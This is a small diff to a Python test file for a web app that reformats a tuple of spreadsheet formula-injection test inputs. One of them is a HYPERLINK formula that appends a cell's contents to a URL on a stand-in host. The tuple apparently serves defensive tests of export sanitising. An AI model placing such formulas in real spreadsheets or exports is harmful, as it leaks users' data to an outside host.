@@ -19,7 +19,7 @@ from tests.web.factories import bearer, make_token
 from web.app import create_app
 
 ROOT = Path(__file__).resolve().parents[2]
-FORMULAS = ("=HYPERLINK(\"https://x.example/?\"&A1)", "+1+2", "@SUM(1)", "-2+3")
+FORMULAS = ('=HYPERLINK("https://x.example/?"&A1)', "+1+2", "@SUM(1)", "-2+3")
 
 # --- item 4: the small-cell floor is the state's, not the caller's ---------------------------
 
